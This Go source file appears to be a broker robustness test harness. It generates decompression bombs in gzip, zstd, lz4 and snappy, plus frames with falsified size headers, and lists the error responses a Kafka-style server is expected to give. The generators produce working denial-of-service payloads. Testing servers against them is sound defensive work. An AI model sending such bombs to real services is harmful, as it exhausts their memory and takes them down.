package main

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"hash/crc32"
	"math"
	"slices"
)

// bombAttacks: row 28, a mebibyte that becomes a gibibyte and more.
//
// All but the damaged ones hold what is almost one record: its head, and a value of zeros.
func bombAttacks() []attack {
	const opened = "answered|MESSAGE_TOO_LARGE|INVALID_RECORD|UNKNOWN_SERVER_ERROR|CORRUPT_MESSAGE"
	refused := "MESSAGE_TOO_LARGE|INVALID_RECORD|UNKNOWN_SERVER_ERROR|CORRUPT_MESSAGE"
	return []attack{
		{row: "28", name: "gzip, 1 GiB", shots: []shot{written("gzip", opened, packed(1, gzipBomb(900<<20)))}},
		{row: "28", name: "zstd, 1 and 20 GiB", shots: []shot{
			written("1 GiB", opened, packed(4, zstdBomb(1<<30))), written("20 GiB", refused, packed(4, zstdBomb(20<<30)))}},
		{row: "28", name: "lz4, 240 MiB", shots: []shot{written("lz4", opened, packed(3, lz4Bomb(240<<20)))}},
		{row: "28", name: "snappy, 20 MiB", shots: []shot{written("snappy", opened, packed(2, snappyBomb(20<<20)))}},
		{row: "28", name: "compressed lies", shots: []shot{
			written("zstd with a window of 2 GiB", refused, packed(4, []byte{0x28, 0xb5, 0x2f, 0xfd, 0, 21 << 3, 3, 0, 0, 0})),
			written("lz4 that says 2^62 bytes", refused, packed(3, lz4Liar())),
			written("snappy that says 2^32-1 bytes", refused, packed(2, []byte{255, 255, 255, 255, 15, 0, 0})),
			written("snappy-java with a chunk of 2^31-1", refused, packed(2, append(snappyJava(), 127, 255, 255, 255, 0, 0))),
			written("snappy-java with a chunk of -1", refused, packed(2, append(snappyJava(), 255, 255, 255, 255, 0, 0))),
			written("gzip in gzip", refused, packed(1, gzipOf(gzipBomb(16<<20)))),
			written("not compressed at all", refused, packed(4, repeat([]byte{7}, 1_000))),
		}},
	}
}

// headOf a record of so many bytes in all, whose value is zeros and ends with the count of headers: 0.
func headOf(total int64) []byte {
	var head []byte
	body, value := total, total
	for range 3 { // The lengths' own lengths settle.
		head = append(binary.AppendVarint(nil, body), 0, 0, 0, 1)
		head = binary.AppendVarint(head, value)
		body = total - int64(len(binary.AppendVarint(nil, body)))
		value = total - int64(len(head)) - 1
	}
	return head
}

// gzipBomb repeats one compressed block of zeros, which always looks back at zeros.
func gzipBomb(total int64) []byte {
	const block = 1 << 20
	head := headOf(total)
	var out bytes.Buffer
	out.Write([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255})
	deflate, err := flate.NewWriter(&out, flate.BestCompression)
	must(err)
	zeros := make([]byte, block)
	part := func(bytes []byte) []byte { // What these bytes add to the stream.
		from := out.Len()
		_, err := deflate.Write(bytes)
		must(err)
		must(deflate.Flush())
		return slices.Clone(out.Bytes()[from:])
	}
	part(head)
	part(zeros)
	again := part(zeros)
	left := total - int64(len(head)) - 2*block
	out.Write(repeat(again, int(left/block)))
	part(zeros[:left%block])
	must(deflate.Close())
	sum := crc32.ChecksumIEEE(head)
	for rest := total - int64(len(head)); rest > 0; rest -= min(rest, block) {
		sum = crc32.Update(sum, crc32.IEEETable, zeros[:min(rest, block)])
	}
	return binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(out.Bytes(), sum), uint32(total))
}

func gzipOf(plain []byte) []byte {
	var out bytes.Buffer
	out.Write([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255})
	deflate, err := flate.NewWriter(&out, flate.BestCompression)
	must(err)
	_, err = deflate.Write(plain)
	must(err)
	must(deflate.Close())
	return binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(out.Bytes(), crc32.ChecksumIEEE(plain)), uint32(len(plain)))
}

// zstdBomb has blocks of four bytes that say "128 KiB of zeros".
func zstdBomb(total int64) []byte {
	const block = 128 << 10
	said := min(total, math.MaxInt32)
	head := headOf(said)
	out := []byte{0x28, 0xb5, 0x2f, 0xfd, 0, 10 << 3} // A window of 1 MiB, no size, no checksum.
	blockHead := func(bytes []byte, last, kind, size int) []byte {
		it := last | kind<<1 | size<<3
		return append(bytes, byte(it), byte(it>>8), byte(it>>16))
	}
	out = append(blockHead(out, 0, 0, len(head)), head...)
	left := total - int64(len(head))
	out = append(out, repeat(append(blockHead(nil, 0, 1, block), 0), int(left/block))...)
	return append(blockHead(out, 1, 1, int(left%block)), 0)
}

// lz4Bomb has blocks of 4 MiB: a zero, and a match with itself that is as long as the block.
func lz4Bomb(total int64) []byte {
	const block = 4 << 20
	head := headOf(total)
	run := func(first []byte, size int) []byte {
		// The last five bytes of a block are literals; a match of so many bytes is 4, 15 and 255 each.
		match := size - len(first) - 5 - 4 - 15
		out := append([]byte{byte(len(first)<<4 | 15)}, first...)
		out = append(out, 1, 0)
		out = append(out, repeat([]byte{255}, match/255)...)
		out = append(out, byte(match%255), 5<<4, 0, 0, 0, 0, 0)
		return append(binary.LittleEndian.AppendUint32(nil, uint32(len(out))), out...)
	}
	out := lz4Frame(0x60, 0x70)
	out = append(out, run(append(slices.Clone(head), 0), block)...)
	left := int(total) - block
	out = append(out, repeat(run([]byte{0}, block), left/block)...)
	if left%block > 64 {
		out = append(out, run([]byte{0}, left%block)...)
	}
	return append(out, 0, 0, 0, 0)
}

// lz4Frame is a frame's head: these flags, blocks of this size, and the checksum of both.
func lz4Frame(descriptor ...byte) []byte {
	head := append([]byte{4, 0x22, 0x4d, 0x18}, descriptor...)
	return append(head, byte(xxh32(descriptor)>>8))
}

func lz4Liar() []byte {
	descriptor := binary.LittleEndian.AppendUint64([]byte{0x68, 0x70}, 1<<62)
	return append(lz4Frame(descriptor...), 0, 0, 0, 0)
}

// xxh32 of fewer than 16 bytes.
func xxh32(input []byte) uint32 {
	const p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
	turn := func(value uint32, by int) uint32 { return value<<by | value>>(32-by) }
	hash := uint32(p5) + uint32(len(input))
	for ; len(input) >= 4; input = input[4:] {
		hash = turn(hash+binary.LittleEndian.Uint32(input)*p3, 17) * p4
	}
	for _, it := range input {
		hash = turn(hash+uint32(it)*p5, 11) * p1
	}
	hash = (hash ^ hash>>15) * p2
	hash = (hash ^ hash>>13) * p3
	return hash ^ hash>>16
}

// snappyBomb copies 64 bytes with every three.
func snappyBomb(total int64) []byte {
	head := append(headOf(total), 0)
	out := binary.AppendUvarint(nil, uint64(total))
	out = append(append(out, byte(len(head)-1)<<2), head...)
	left := int(total) - len(head)
	out = append(out, repeat([]byte{63<<2 | 2, 1, 0}, left/64)...)
	if left%64 > 0 {
		out = append(out, byte(left%64-1)<<2|2, 1, 0)
	}
	return out
}

func snappyJava() []byte {
	return []byte{0x82, 'S', 'N', 'A', 'P', 'P', 'Y', 0, 0, 0, 0, 1, 0, 0, 0, 1}
}

// must: what is built here does not fail.
func must(err error) {
	if err != nil {
		panic(err)
	}
}
